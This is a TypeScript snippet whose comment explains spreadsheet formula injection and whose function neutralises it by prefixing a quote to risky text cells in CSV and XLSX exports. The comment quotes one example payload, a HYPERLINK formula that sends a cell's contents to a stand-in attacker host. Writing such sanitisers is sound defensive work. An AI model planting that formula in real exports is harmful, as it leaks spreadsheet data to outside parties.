// Spreadsheet formula injection (CSV/formula injection, OWASP): a cell whose text starts with
// `=`, `+`, `-` or `@` is read by Excel, LibreOffice and Google Sheets as a formula, and tab
// or carriage return at the start lets a payload slip past naive checks. A person's name or
// a charge typed as `=HYPERLINK("https://evil.example?"&A1, "Open")` would run in the
// analyst's spreadsheet and could send other cells of the export away.
//
// Every TEXT cell of the CSV and XLSX exports that starts with one of those characters gets a
// single quote (') in front of it: spreadsheets then show it as text, and a reader sees the
// original value after the quote. Numbers, dates and empty cells are never changed (they are
// written as numbers and dates, not as text).

const FORMULA_START = /^[=+\-@\t\r]/;

export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}
